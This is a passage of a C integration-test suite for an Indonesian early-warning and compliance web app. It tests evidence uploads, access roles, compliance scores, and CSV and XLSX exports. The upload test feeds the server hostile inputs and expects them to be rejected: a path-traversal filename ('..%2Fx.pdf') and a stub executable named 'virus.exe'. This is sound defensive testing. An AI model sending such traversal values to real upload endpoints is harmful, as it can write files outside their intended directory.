    /* Progress on the approved plan: a closed period, not a future one, not twice. */
    snprintf(p, sizeof(p), "/api/v1/actions/%lld/progress", (long long)aid);
    json_decref(as(2, "POST", p, "{\"period\":\"TW1\"}", 400));
    json_decref(as(2, "POST", p, "{\"period\":\"B-04\"}", 400)); /* 2027 has not started */
    json_decref(as(1, "POST", p, "{\"period\":\"B-04\"}", 403));
}

/* ---- evidence ----------------------------------------------------------------------------- */

static void test_evidence(void **state)
{
    (void)state;
    char q[128];
    snprintf(q, sizeof(q), "/api/v1/progress?region=32&type=pks&year=%d", demo_year);
    json_int_t pid = 0;
    json_t *v = as(0, "GET", q, NULL, 200);
    json_t *items = json_object_get(v, "items");
    for (size_t i = 0; i < json_array_size(items); i++)
        if (str_eq(jstr(json_array_get(items, i), "region"), "32"))
            pid = jint(json_array_get(items, i), "id");
    json_decref(v);
    assert_true(pid > 0);
    static const char pdf[] = "%PDF-1.4\n% bukti kegiatan rapat koordinasi\n%%EOF\n";
    char path[160];
    snprintf(path, sizeof(path), "/api/v1/progress/%lld/evidence?filename=notulen%%20rapat.pdf",
             (long long)pid);
    json_t *out = NULL;
    assert_int_equal(req(&clients[1], csrf[1], "POST", path, pdf, sizeof(pdf) - 1, &out), 403);
    json_decref(out);
    assert_int_equal(req(&clients[3], csrf[3], "POST", path, pdf, sizeof(pdf) - 1, &out), 403);
    json_decref(out);
    assert_int_equal(req(&clients[4], csrf[4], "POST", path, pdf, sizeof(pdf) - 1, &out), 403);
    json_decref(out);
    assert_int_equal(req(&clients[2], NULL, "POST", path, pdf, sizeof(pdf) - 1, &out), 403);
    json_decref(out); /* no CSRF token */
    assert_int_equal(req(&clients[2], csrf[2], "POST", path, pdf, sizeof(pdf) - 1, &out), 201);
    json_t *ev = json_object_get(out, "evidence");
    assert_string_equal(jstr(ev, "filename"), "notulen rapat.pdf");
    assert_string_equal(jstr(ev, "content_type"), "application/pdf");
    assert_int_equal(jint(ev, "size"), sizeof(pdf) - 1);
    char sha[65];
    str_copy(sha, jstr(ev, "sha256"), sizeof(sha));
    json_int_t eid = jint(ev, "id");
    json_decref(out);
    /* Evidence may be larger than the 1 MiB body cap of JSON requests (up to 10 MiB). */
    size_t big_len = (size_t)3 << 20;
    char *big = xmalloc(big_len);
    memset(big, ' ', big_len);
    memcpy(big, "%PDF-1.4\n", 9);
    snprintf(path, sizeof(path), "/api/v1/progress/%lld/evidence?filename=scan.pdf",
             (long long)pid);
    assert_int_equal(req(&clients[2], csrf[2], "POST", path, big, big_len, &out), 201);
    assert_int_equal(jint(json_object_get(out, "evidence"), "size"), (json_int_t)big_len);
    json_decref(out);
    assert_int_equal(req(&clients[2], csrf[2], "POST", "/api/v1/cases", big, big_len, NULL), 413);
    free(big);
    /* Type and content checks. */
    snprintf(path, sizeof(path), "/api/v1/progress/%lld/evidence?filename=virus.exe",
             (long long)pid);
    assert_int_equal(req(&clients[2], csrf[2], "POST", path, "MZ\x90", 3, NULL), 400);
    snprintf(path, sizeof(path), "/api/v1/progress/%lld/evidence?filename=foto.png",
             (long long)pid);
    assert_int_equal(req(&clients[2], csrf[2], "POST", path, pdf, sizeof(pdf) - 1, NULL), 400);
    snprintf(path, sizeof(path), "/api/v1/progress/%lld/evidence?filename=..%%2Fx.pdf",
             (long long)pid);
    assert_int_equal(req(&clients[2], csrf[2], "POST", path, pdf, sizeof(pdf) - 1, NULL), 400);
    /* The file is on disk under its hash. */
    char *fdir = testdb_files_dir(tmpdir, db_path);
    char *file = xasprintf("%s/%s", fdir, sha);
    free(fdir);
    char *content = support_read_file(file);
    assert_non_null(content);
    assert_string_equal(content, pdf);
    free(content);
    free(file);
    /* Download: readers of region 32 only. */
    snprintf(path, sizeof(path), "/api/v1/evidence/%lld", (long long)eid);
    long expect[NROLES] = {200, 200, 200, 403, 403};
    for (int r = 0; r < NROLES; r++) {
        struct support_response resp;
        long st = support_http(&clients[r], "GET", path, NULL, 0, NULL, &resp);
        if (st != expect[r])
            fail_msg("%s GET %s: expected %ld, got %ld", users[r], path, expect[r], st);
        if (st == 200) {
            assert_int_equal(resp.len, sizeof(pdf) - 1);
            assert_memory_equal(resp.body, pdf, sizeof(pdf) - 1);
            char *ct = support_response_header(&resp, "Content-Type");
            assert_string_equal(ct, "application/pdf");
            free(ct);
            char *cd = support_response_header(&resp, "Content-Disposition");
            assert_string_equal(cd, "attachment; filename=\"notulen rapat.pdf\"");
            free(cd);
        }
        support_response_free(&resp);
    }
    struct support_http anon;
    support_http_init(&anon, server.base_url);
    assert_int_equal(req(&anon, NULL, "GET", path, NULL, 0, NULL), 401);
    support_http_cleanup(&anon);
    /* The report lists its evidence. */
    snprintf(path, sizeof(path), "/api/v1/progress/%lld", (long long)pid);
    v = as(2, "GET", path, NULL, 200);
    assert_int_equal(json_array_size(json_object_get(json_object_get(v, "progress"), "evidence")),
                     2);
    json_decref(v);
}

/* ---- compliance --------------------------------------------------------------------------- */

static json_t *find_row(json_t *items, const char *code)
{
    for (size_t i = 0; i < json_array_size(items); i++)
        if (str_eq(jstr(json_array_get(items, i), "region_code"), code))
            return json_array_get(items, i);
    fail_msg("no compliance row for %s", code);
    return NULL;
}

static void test_compliance(void **state)
{
    (void)state;
    char q[160];
    /* As of 31 December of the demo year: B-04 and B-08 are closed, B-12 is not. */
    snprintf(q, sizeof(q), "/api/v1/compliance?year=%d&type=pks&date=%d-12-31", demo_year,
             demo_year);
    json_t *v = as(1, "GET", q, NULL, 200);
    json_t *items = json_object_get(v, "items");
    assert_int_equal(json_array_size(items), 38);
    static const struct {
        const char *code, *rad;
        bool timdu;
        long expected, submitted, on_time;
        double rr, otr, score;
        int rank;
    } expect[] = {
        {"72", "disetujui", true, 8, 8, 8, 100.0, 100.0, 100.0, 1},
        {"32", "disetujui", true, 8, 7, 6, 87.5, 75.0, 91.3, 2},
        {"35", "disetujui", false, 6, 3, 0, 50.0, 0.0, 45.0, 3},
        {"31", "dikembalikan", true, 0, 0, 0, 0.0, 0.0, 35.0, 4},
        {"73", "diajukan", true, 0, 0, 0, 0.0, 0.0, 35.0, 4},
        {"11", "belum", true, 0, 0, 0, 0.0, 0.0, 20.0, 6},
        {"33", "draft", false, 0, 0, 0, 0.0, 0.0, 7.5, 7},
        {"12", "belum", false, 0, 0, 0, 0.0, 0.0, 0.0, 8},
    };
    for (size_t i = 0; i < WSP_ARRAY_LEN(expect); i++) {
        json_t *r = find_row(items, expect[i].code);
        assert_string_equal(jstr(r, "rad_status"), expect[i].rad);
        assert_int_equal(json_is_true(json_object_get(r, "timdu")), expect[i].timdu);
        assert_int_equal(jint(r, "expected"), expect[i].expected);
        assert_int_equal(jint(r, "submitted"), expect[i].submitted);
        assert_int_equal(jint(r, "on_time"), expect[i].on_time);
        assert_true(json_real_value(json_object_get(r, "reporting_rate")) == expect[i].rr);
        assert_true(json_real_value(json_object_get(r, "on_time_rate")) == expect[i].otr);
        assert_true(json_real_value(json_object_get(r, "score")) == expect[i].score);
        assert_int_equal(jint(r, "rank"), expect[i].rank);
    }
    /* 38 provinces: 6 with a plan; 5 with a valid Timdu on 31 December (35 expired). */
    assert_int_equal(json_array_size(json_object_get(v, "belum_rad")), 32);
    assert_int_equal(json_array_size(json_object_get(v, "belum_timdu")), 33);
    assert_string_equal(jstr(json_array_get(json_object_get(v, "belum_rad"), 0), "name"), "Aceh");
    json_decref(v);

    /* A province officer gets its province and its regencies by default. */
    snprintf(q, sizeof(q), "/api/v1/compliance?year=%d&date=%d-12-31", demo_year, demo_year);
    v = as(2, "GET", q, NULL, 200);
    items = json_object_get(v, "items");
    assert_int_equal(json_array_size(items), 28); /* 32 and its 27 regencies/cities */
    json_t *r = find_row(items, "32.73");
    assert_int_equal(jint(r, "expected"), 4);
    assert_int_equal(jint(r, "submitted"), 3);
    json_decref(v);
    json_decref(as(2, "GET", "/api/v1/compliance?year=2026&region=31", NULL, 403));
    json_decref(as(2, "GET", "/api/v1/compliance?year=2026&type=xyz", NULL, 400));
    json_decref(as(2, "GET", "/api/v1/compliance", NULL, 400));

    /* Printable report. */
    struct support_response resp;
    snprintf(q, sizeof(q), "/api/v1/compliance/report?year=%d&date=%d-12-31", demo_year, demo_year);
    assert_int_equal(support_http(&clients[1], "GET", q, NULL, 0, NULL, &resp), 200);
    char *ct = support_response_header(&resp, "Content-Type");
    assert_string_equal(ct, "text/html; charset=utf-8");
    free(ct);
    /* the same strict policy as the app's pages: the style sheet is a file, nothing inline */
    char *csp = support_response_header(&resp, "Content-Security-Policy");
    assert_non_null(csp);
    assert_non_null(strstr(csp, "default-src 'self'"));
    assert_non_null(strstr(csp, "style-src 'self'"));
    free(csp);
    assert_null(strstr(resp.body, "<style"));
    assert_non_null(strstr(resp.body, "href=\"/css/report.css\""));
    assert_non_null(strstr(resp.body, "<td>Jawa Barat</td>"));
    assert_non_null(strstr(resp.body, "Belum menyusun RAD"));
    support_response_free(&resp);
}

/* ---- CLI import and export ---------------------------------------------------------------- */

static char *fixture(const char *name)
{
    const char *src = getenv("WASPADA_SRC");
    return xasprintf("%s/tests/fixtures/plan/%s", src ? src : ".", name);
}

static void test_cli_import(void **state)
{
    (void)state;
    char *bad = fixture("rad_errors.csv"), *good = fixture("rad_valid.csv");
    struct support_run r;
    const char *args[] = {"--db",   db_path, "import", "rad", "--region", "32.04",
                          "--year", "2026",  "--type", "pks", bad,        NULL};
    assert_int_equal(support_run(&r, NULL, args), 3);
    char *expect = xasprintf(
        "waspada: %s: baris 3, kolom fase: 'pencegahn' bukan fase yang dikenal\n"
        "waspada: %s: baris 4, kolom anggaran: 'dua juta' bukan jumlah rupiah (bilangan bulat, "
        "mis. 150000000)\n"
        "waspada: %s: baris 5, kolom p3aks: 'mungkin' harus 'ya' atau 'tidak'\n"
        "waspada: %s: 3 kesalahan; tidak ada yang disimpan (perbaiki lalu impor ulang)\n",
        bad, bad, bad, bad);
    assert_string_equal(r.err, expect);
    free(expect);
    support_run_free(&r);
    /* Nothing was written, not even the first (valid) row's plan. */
    json_t *v = as(0, "GET", "/api/v1/rad?region=32.04", NULL, 200);
    assert_int_equal(jint(v, "total"), 0);
    json_decref(v);

    args[10] = good;
    assert_int_equal(support_run(&r, NULL, args), 0);
    support_run_free(&r);
    v = as(2, "GET", "/api/v1/rad?region=32.04", NULL, 200);
    assert_int_equal(jint(v, "total"), 1);
    json_t *plan = json_array_get(json_object_get(v, "items"), 0);
    assert_int_equal(jint(plan, "actions"), 3);
    assert_int_equal(jint(plan, "anggaran"), 440000000);
    assert_string_equal(jstr(plan, "status"), "draft");
    json_decref(v);

    const char *usage[] = {"--db", db_path, "import", "rad", "--region", "32.04", NULL};
    assert_int_equal(support_run(&r, NULL, usage), 2);
    support_run_free(&r);
    const char *help[] = {"import", "--help", NULL};
    assert_int_equal(support_run(&r, NULL, help), 0);
    assert_non_null(strstr(r.out, "usage: waspada import rad"));
    support_run_free(&r);
    const char *ehelp[] = {"export", "--help", NULL};
    assert_int_equal(support_run(&r, NULL, ehelp), 0);
    assert_non_null(strstr(r.out, "usage: waspada export compliance"));
    support_run_free(&r);
    free(bad);
    free(good);
}

static char *unzip_member(const char *zip, const char *member)
{
    char *cmd = xasprintf("unzip -p '%s' '%s' 2>/dev/null", zip, member);
    FILE *p = popen(cmd, "r");
    free(cmd);
    if (!p)
        return NULL;
    struct buf b;
    buf_init(&b, 0);
    char chunk[4096];
    size_t n;
    while ((n = fread(chunk, 1, sizeof(chunk), p)) > 0)
        buf_append(&b, chunk, n);
    int st = pclose(p);
    if (st != 0 || b.len == 0) {
        buf_release(&b);
        return NULL;
    }
    return buf_detach(&b, NULL);
}

/* ---- answered alerts (the compliance view and its export) ------------------------------ */

/* Four verified alerts of Kota Bandung (32.73) from 1 June of the demo year, written through
 * the store with the clock set (as alertd and the responses endpoint write them): answered
 * exactly 24 h after the clock started, exactly 72 h after, 72 h and 1 s after, and never.
 * The server is not restarted afterwards, so alertd never reconciles them away (it does so
 * only when it starts leading). */
static void test_answered_alerts(void **state)
{
    (void)state;
    struct store *s = NULL;
    struct error err = {0};
    if (store_open(&s, db_path, &err) != 0)
        fail_msg("store_open: %s", err.msg);
    char day[16];
    snprintf(day, sizeof(day), "%d-06-01", demo_year);
    int64_t t0 = date_days_from_civil(demo_year, 6, 1) * 86400 + 3 * 3600;
    static const int64_t after[] = {24 * 3600, 72 * 3600, 72 * 3600 + 1, -1};
    struct store_actor engine = {0, "system", NULL}, officer = {0, "bandung", NULL};
    for (size_t i = 0; i < WSP_ARRAY_LEN(after); i++) {
        /* closed episodes, so alertd does not escalate them meanwhile */
        struct store_alert al = {.region_code = "32.73",
                                 .level = "normal",
                                 .max_level = "siaga",
                                 .first_day = day,
                                 .last_day = day,
                                 .close_day = day,
                                 .score = 1.0};
        int64_t id = 0;
        time_set_override(t0 + (int64_t)i * 60);
        if (store_alert_create(s, &al, &engine, &id, &err) != 0)
            fail_msg("store_alert_create: %s", err.msg);
        if (after[i] < 0)
            continue;
        time_set_override(t0 + (int64_t)i * 60 + after[i]);
        struct store_alert_response r = {.note = "Dialog warga"};
        if (store_alert_response_add(s, id, &r, &officer, NULL, &err) != 0)
            fail_msg("store_alert_response_add: %s", err.msg);
    }
    time_set_override(0);
    store_close(s);

    /* The compliance view counts them (the export must say the same: test_cli_export). */
    char q[160];
    snprintf(q, sizeof(q), "/api/v1/compliance?year=%d&type=pks&date=%d-12-31", demo_year,
             demo_year);
    json_t *v = as(1, "GET", q, NULL, 200);
    json_t *a = json_object_get(find_row(json_object_get(v, "items"), "32"), "alerts");
    assert_int_equal(jint(a, "alerts"), 4);
    assert_int_equal(jint(a, "answered_24h"), 1);
    assert_int_equal(jint(a, "answered_72h"), 2);
    assert_int_equal(jint(a, "answered"), 3);
    assert_int_equal(jint(a, "unanswered"), 1);
    a = json_object_get(find_row(json_object_get(v, "items"), "11"), "alerts");
    assert_int_equal(jint(a, "alerts"), 0);
    json_decref(v);
}

/* The compliance export's header: the answered alerts are the last five columns. */
#define COMPLIANCE_HEAD                                                                            \
    "region_code,region,timdu,rad_status,expected,submitted,on_time,late,reporting_rate,"          \
    "on_time_rate,score,rank,alerts,answered_24h,answered_72h,answered,unanswered"

/* The row of region code in a compliance CSV ends with the alert cells want ("4,1,2,3,1"). */
static void expect_alert_cells(const char *csv, const char *code, const char *want)
{
    char *key = xasprintf("\r\n%s,", code);
    const char *line = strstr(csv, key);
    free(key);
    if (!line)
        fail_msg("no row %s in the compliance CSV", code);
    line += 2;
    const char *end = strstr(line, "\r\n");
    size_t len = end ? (size_t)(end - line) : strlen(line), wl = strlen(want);
    /* 17 cells, so 16 commas; the names hold none in these regions */
    size_t commas = 0;
    for (size_t i = 0; i < len; i++)
        commas += line[i] == ',';
    if (commas != 16 || len <= wl || line[len - wl - 1] != ',' ||
        memcmp(line + len - wl, want, wl) != 0)
        fail_msg("row %s: expected the alert cells %s, got '%.*s'", code, want, (int)len, line);
}

/* The XLSX compliance sheet: the header in CSV's order (shared strings are numbered in the
 * order first written: the header first) and Jawa Barat's alert cells as numbers (rank 2:
 * the sheet's third row). */
static void expect_alert_sheet(const char *strings, const char *sheet)
{
    assert_non_null(strstr(strings, "<si><t>region_code</t></si><si><t>region</t></si>"));
    assert_non_null(strstr(strings, "<si><t>rank</t></si><si><t>alerts</t></si>"
                                    "<si><t>answered_24h</t></si><si><t>answered_72h</t></si>"
                                    "<si><t>answered</t></si><si><t>unanswered</t></si>"));
    assert_non_null(strstr(sheet, "<c r=\"K3\"><v>91.3</v></c><c r=\"L3\"><v>2</v></c>"
                                  "<c r=\"M3\"><v>4</v></c><c r=\"N3\"><v>1</v></c>"
                                  "<c r=\"O3\"><v>2</v></c><c r=\"P3\"><v>3</v></c>"
                                  "<c r=\"Q3\"><v>1</v></c></row>"));
}

static void test_cli_export(void **state)
{
    (void)state;
    char year[16], date[16];
    snprintf(year, sizeof(year), "%d", demo_year);
    snprintf(date, sizeof(date), "%d-12-31", demo_year);
    char *xlsx = support_path(tmpdir, "kepatuhan.xlsx");
    struct support_run r;
    const char *args[] = {"--db", db_path,    "export", "compliance", "--year", year, "--date",
                          date,   "--format", "xlsx",   "--output",   xlsx,     NULL};
    assert_int_equal(support_run(&r, NULL, args), 0);
    support_run_free(&r);
    char *raw = support_read_file(xlsx);
    assert_non_null(raw);
    assert_memory_equal(raw, "PK\x03\x04", 4);
    free(raw);
    char *sheet = unzip_member(xlsx, "xl/worksheets/sheet1.xml");
    char *strings = unzip_member(xlsx, "xl/sharedStrings.xml");
    if (sheet && strings) {
        assert_non_null(strstr(strings, "region_code"));
        assert_non_null(strstr(strings, "Jawa Barat"));
        assert_non_null(strstr(strings, "belum"));
        assert_non_null(strstr(sheet, "<v>91.3</v>"));
        assert_non_null(strstr(sheet, "<v>87.5</v>"));
        expect_alert_sheet(strings, sheet);
    } else {
        /* No unzip: the central directory still names the sheet. */
        raw = support_read_file(xlsx);
        assert_non_null(raw);
        fprintf(stderr, "unzip not available: checked the zip container only\n");
        free(raw);
    }
    free(sheet);
    free(strings);

    const char *csv[] = {"--db",   db_path, "export",   "compliance", "--year", year,
                         "--date", date,    "--format", "csv",        NULL};
    assert_int_equal(support_run(&r, NULL, csv), 0);
    assert_true(str_starts_with(r.out, "\xEF\xBB\xBF" COMPLIANCE_HEAD "\r\n"));
    /* the answered alerts of test_answered_alerts: 4 alerts, 1 within 24 h, 2 within 72 h,
     * 3 answered, 1 not */
    assert_non_null(
        strstr(r.out, "\r\n32,Jawa Barat,ya,disetujui,8,7,6,1,87.5,75.0,91.3,2,4,1,2,3,1\r\n"));
    assert_non_null(strstr(r.out, "\r\n11,Aceh,ya,belum,0,0,0,0,0.0,0.0,20.0,6,0,0,0,0,0\r\n"));
    support_run_free(&r);
    const char *csv32[] = {"--db", db_path,    "export", "compliance", "--year", year, "--date",
                           date,   "--region", "32",     "--format",   "csv",    NULL};
    assert_int_equal(support_run(&r, NULL, csv32), 0);
    /* a province's export: the regency's alerts on its row and under the province */
    expect_alert_cells(r.out, "32", "4,1,2,3,1");
    expect_alert_cells(r.out, "32.73", "4,1,2,3,1");
    expect_alert_cells(r.out, "32.04", "0,0,0,0,0");
    support_run_free(&r);
    const char *plans[] = {"--db",     db_path, "export",   "plans", "--year", year,
                           "--region", "32",    "--format", "csv",   NULL};
    assert_int_equal(support_run(&r, NULL, plans), 0);
    assert_non_null(strstr(r.out, "Pemetaan wilayah rawan konflik sosial"));
    support_run_free(&r);
    char *rx = support_path(tmpdir, "laporan.xlsx");
    const char *reports[] = {"--db",     db_path, "export",   "reports", "--year", year,
                             "--format", "xlsx",  "--output", rx,        NULL};
    assert_int_equal(support_run(&r, NULL, reports), 0);
    support_run_free(&r);
    strings = unzip_member(rx, "xl/sharedStrings.xml");
    if (strings)
        assert_non_null(strstr(strings, "B-04"));
    free(strings);
    const char *bad[] = {"--db", db_path,    "export", "compliance", "--year",
                         year,   "--format", "pdf",    NULL};
    assert_int_equal(support_run(&r, NULL, bad), 2);
    support_run_free(&r);
    free(rx);
    free(xlsx);
}

/* ---- HTTP exports ------------------------------------------------------------------------- */

static uint32_t le32(const unsigned char *p)
{
    return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

static uint16_t le16(const unsigned char *p)
{
    return (uint16_t)(p[0] | p[1] << 8);
}

/* Does the ZIP's central directory (as a spreadsheet program reads it) name member? Checks
 * the end record, every directory entry's signature and that its local header is there. */
static bool zip_has(const char *data, size_t len, const char *member)
{
    const unsigned char *z = (const unsigned char *)data;
    if (len < 22)
        return false;
    size_t end = len - 22;
    while (end > 0 && le32(z + end) != 0x06054b50)
        end--;
    if (le32(z + end) != 0x06054b50)
        return false;
    size_t n = le16(z + end + 10), p = le32(z + end + 16);
    bool found = false;
    for (size_t i = 0; i < n; i++) {
        if (p + 46 > len || le32(z + p) != 0x02014b50)
            return false;
        size_t nlen = le16(z + p + 28), local = le32(z + p + 42);
        if (local + 4 > len || le32(z + local) != 0x04034b50)
            return false;
        if (nlen == strlen(member) && memcmp(z + p + 46, member, nlen) == 0)
            found = true;
        p += 46 + nlen + le16(z + p + 30) + le16(z + p + 32);
    }
    return found;
}

/* GET path as role i, expecting status; the response is left in *r (caller frees). */
static void get_as(int i, const char *path, long status, struct support_response *r)
{
    long st = support_http(&clients[i], "GET", path, NULL, 0, NULL, r);
    if (st != status)
        fail_msg("%s GET %s: expected %ld, got %ld: %s", users[i], path, status, st,
                 r->body ? r->body : "");
}

static void expect_header(const struct support_response *r, const char *name, const char *want)
{
    char *v = support_response_header(r, name);
    if (!v || !str_eq(v, want))
        fail_msg("header %s: expected '%s', got '%s'", name, want, v ? v : "(none)");
    free(v);
}

/* Every data line of a CSV starts with prefix (a region scope). */
static void csv_rows_in(const char *csv, const char *prefix, size_t want_rows)
{
    const char *line = strstr(csv, "\r\n");
    size_t rows = 0;
    while (line && line[2]) {
        line += 2;
        if (!str_starts_with(line, prefix))
            fail_msg("row outside '%s': %.40s", prefix, line);
        rows++;
        line = strstr(line, "\r\n");
    }
    if (want_rows && rows != want_rows)
        fail_msg("expected %zu rows, got %zu", want_rows, rows);
}

static void test_http_exports(void **state)
{
    (void)state;
    char year[16], date[16], path[256];
    snprintf(year, sizeof(year), "%d", demo_year);
    snprintf(date, sizeof(date), "%d-12-31", demo_year);
    struct support_response r;
    struct support_run cli;

    /* pusat: every province, byte for byte what the CLI writes. */
    snprintf(path, sizeof(path), "/api/v1/compliance/export?year=%d&type=pks&date=%s", demo_year,
             date);
    get_as(1, path, 200, &r);
    expect_header(&r, "Content-Type", "text/csv; charset=utf-8");
    expect_header(&r, "Cache-Control", "private, no-store");
    char *want = xasprintf("attachment; filename=\"kepatuhan-%d-pks.csv\"", demo_year);
    expect_header(&r, "Content-Disposition", want);
    free(want);
    const char *args[] = {"--db",   db_path, "export",   "compliance", "--year", year,
                          "--date", date,    "--format", "csv",        NULL};
    assert_int_equal(support_run(&cli, NULL, args), 0);
    assert_int_equal(r.len, strlen(cli.out));
    assert_memory_equal(r.body, cli.out, r.len);
    support_run_free(&cli);
    static const char head[] = "\xEF\xBB\xBF" COMPLIANCE_HEAD "\r\n";
    assert_memory_equal(r.body, head, sizeof(head) - 1);
    assert_non_null(
        strstr(r.body, "\r\n32,Jawa Barat,ya,disetujui,8,7,6,1,87.5,75.0,91.3,2,4,1,2,3,1\r\n"));
    assert_non_null(strstr(r.body, "\r\n11,Aceh,ya,belum,0,0,0,0,0.0,0.0,20.0,6,0,0,0,0,0\r\n"));
    csv_rows_in(r.body, "", 38);
    support_response_free(&r);

    /* jabar: its province and regencies by default, as the CLI's --region 32; not DKI. */
    snprintf(path, sizeof(path), "/api/v1/compliance/export?year=%d&date=%s", demo_year, date);
    get_as(2, path, 200, &r);
    want = xasprintf("attachment; filename=\"kepatuhan-%d-pks-32.csv\"", demo_year);
    expect_header(&r, "Content-Disposition", want);
    free(want);
    const char *args32[] = {"--db", db_path,    "export", "compliance", "--year", year, "--date",
                            date,   "--region", "32",     "--format",   "csv",    NULL};
    assert_int_equal(support_run(&cli, NULL, args32), 0);
    assert_string_equal(r.body, cli.out);
    support_run_free(&cli);
    csv_rows_in(r.body, "32", 28);
    assert_non_null(strstr(r.body, "\r\n32.73,Kota Bandung,ya,disetujui,4,3,"));
    expect_alert_cells(r.body, "32.73", "4,1,2,3,1");
    support_response_free(&r);
    snprintf(path, sizeof(path), "/api/v1/compliance/export?year=%d&region=31", demo_year);
    get_as(2, path, 403, &r);
    support_response_free(&r);

    /* bandung: plans and reports of its own regency only, whatever it asks for. */
    snprintf(path, sizeof(path), "/api/v1/rad/export?year=%d", demo_year);
    get_as(3, path, 200, &r);
    want = xasprintf("attachment; filename=\"rad-%d-32.73.csv\"", demo_year);
    expect_header(&r, "Content-Disposition", want);
    free(want);
    assert_non_null(strstr(r.body, "\r\n32.73,Kota Bandung,"));
    csv_rows_in(r.body, "32.73,", 2);
    support_response_free(&r);
    snprintf(path, sizeof(path), "/api/v1/progress/export?year=%d&type=pks", demo_year);
    get_as(3, path, 200, &r);
    csv_rows_in(r.body, "32.73,", 3);
    support_response_free(&r);
    snprintf(path, sizeof(path), "/api/v1/progress/export?year=%d&region=32", demo_year);
    get_as(3, path, 403, &r);
    support_response_free(&r);
    /* pusat: all of them; the CSV matches the CLI's plans export. */
    snprintf(path, sizeof(path), "/api/v1/rad/export?year=%d&region=32", demo_year);
    get_as(1, path, 200, &r);
    const char *plans[] = {"--db",     db_path, "export",   "plans", "--year", year,
                           "--region", "32",    "--format", "csv",   NULL};
    assert_int_equal(support_run(&cli, NULL, plans), 0);
    assert_string_equal(r.body, cli.out);
    support_run_free(&cli);
    support_response_free(&r);

    /* pelapor: never; not logged in: 401. */
    static const char *const paths[] = {"/api/v1/compliance/export?year=2026",
                                        "/api/v1/rad/export?year=2026",
                                        "/api/v1/progress/export?year=2026&format=xlsx"};
    for (size_t i = 0; i < WSP_ARRAY_LEN(paths); i++) {
        get_as(4, paths[i], 403, &r);
        support_response_free(&r);
        struct support_http anon;
        support_http_init(&anon, server.base_url);
        assert_int_equal(req(&anon, NULL, "GET", paths[i], NULL, 0, NULL), 401);
        support_http_cleanup(&anon);
    }
    /* Bad queries. */
    get_as(1, "/api/v1/rad/export?year=2026&format=pdf", 400, &r);
    support_response_free(&r);
    get_as(1, "/api/v1/progress/export", 400, &r);
    support_response_free(&r);
    get_as(1, "/api/v1/compliance/export?year=2026&type=xyz", 400, &r);
    support_response_free(&r);

    /* XLSX: a valid package holding the values. */
    snprintf(path, sizeof(path), "/api/v1/compliance/export?year=%d&date=%s&format=xlsx", demo_year,
             date);
    get_as(1, path, 200, &r);
    expect_header(&r, "Content-Type",
                  "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect_header(&r, "Cache-Control", "private, no-store");
    want = xasprintf("attachment; filename=\"kepatuhan-%d-pks.xlsx\"", demo_year);
    expect_header(&r, "Content-Disposition", want);
    free(want);
    assert_true(r.len > 4);
    assert_memory_equal(r.body, "PK\x03\x04", 4);
    static const char *const parts[] = {"[Content_Types].xml", "xl/workbook.xml",
                                        "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"};
    for (size_t i = 0; i < WSP_ARRAY_LEN(parts); i++)
        if (!zip_has(r.body, r.len, parts[i]))
            fail_msg("the XLSX has no '%s'", parts[i]);
    char *xlsx = support_path(tmpdir, "http-kepatuhan.xlsx");
    FILE *f = fopen(xlsx, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(r.body, 1, r.len, f), r.len);
    assert_int_equal(fclose(f), 0);
    support_response_free(&r);
    char *sheet = unzip_member(xlsx, "xl/worksheets/sheet1.xml");
    char *strings = unzip_member(xlsx, "xl/sharedStrings.xml");
    char *book = unzip_member(xlsx, "xl/workbook.xml");
    if (sheet && strings && book) {
        assert_non_null(strstr(book, "<sheet name=\"Kepatuhan\""));
        assert_non_null(strstr(strings, "<t>region_code</t>"));
        assert_non_null(strstr(strings, "<t>Jawa Barat</t>"));
        assert_non_null(strstr(strings, "<t>belum</t>"));
        assert_non_null(strstr(sheet, "<v>91.3</v>"));
        assert_non_null(strstr(sheet, "<v>87.5</v>"));
        assert_non_null(strstr(sheet, "<row r=\"39\""));
        assert_null(strstr(sheet, "<row r=\"40\""));
        expect_alert_sheet(strings, sheet);
    } else {
        fprintf(stderr, "unzip not available: checked the zip central directory only\n");
    }
    free(sheet);
    free(strings);
    free(book);
    free(xlsx);
}

static void find_demo_year(void)
{
    json_t *v = as(0, "GET", "/api/v1/rad?region=72&type=pks", NULL, 200);
    demo_year = (int)jint(json_array_get(json_object_get(v, "items"), 0), "year");
    json_decref(v);
}

static void test_demo_year(void **state)
{
    (void)state;
    find_demo_year();
    assert_true(demo_year >= 2025);
    /* Demo plans in every state. */
    static const char *const st[] = {"draft", "diajukan", "dikembalikan", "disetujui"};
    for (size_t i = 0; i < 4; i++) {
        char q[96];
        snprintf(q, sizeof(q), "/api/v1/rad?status=%s", st[i]);
        json_t *v = as(1, "GET", q, NULL, 200);
        assert_true(jint(v, "total") >= 1);
        json_decref(v);
    }
}

/* Member names of the Timdu of exactly region, as admin (caller frees). */
static char *timdu_people(const char *region)
{
    char q[96];
    snprintf(q, sizeof(q), "/api/v1/timdu?region=%s", region);
    json_t *v = as(0, "GET", q, NULL, 200);
    json_t *items = json_object_get(v, "items");
    json_int_t id = 0;
    for (size_t i = 0; i < json_array_size(items); i++)
        if (str_eq(jstr(json_array_get(items, i), "region"), region))
            id = jint(json_array_get(items, i), "id");
    json_decref(v);
    snprintf(q, sizeof(q), "/api/v1/timdu/%lld", (long long)id);
    v = as(0, "GET", q, NULL, 200);
    json_t *t = json_object_get(v, "timdu");
    struct buf b;
    buf_init(&b, 0);
    buf_printf(&b, "%s;", jstr(t, "chair_name"));
    json_t *m = json_object_get(t, "member_list");
    for (size_t i = 0; i < json_array_size(m); i++)
        buf_printf(&b, "%s;", jstr(json_array_get(m, i), "name"));
    json_decref(v);
    return buf_detach(&b, NULL);
}

/* The demo names nobody real (no national hero as a Timdu secretary) and each region has its
 * own people. */
static void test_demo_people(void **state)
{
    (void)state;
    char *a = timdu_people("32"), *b = timdu_people("72");
    assert_null(strstr(a, "Agus Salim"));
    assert_null(strstr(b, "Agus Salim"));
    assert_string_not_equal(a, b);
    /* no member of one region's Timdu sits in the other's */
    for (char *p = a, *semi; (semi = strchr(p, ';')) != NULL; p = semi + 1) {
        *semi = '\0';
        if (strstr(b, p))
            fail_msg("'%s' is in the Timdu of 32 and of 72", p);
    }
    free(a);
    free(b);
}

/* The public portal's view of cases: status counts and public summaries only. */
static void test_public_cases(void **state)
{
    (void)state;
    struct support_http anon;
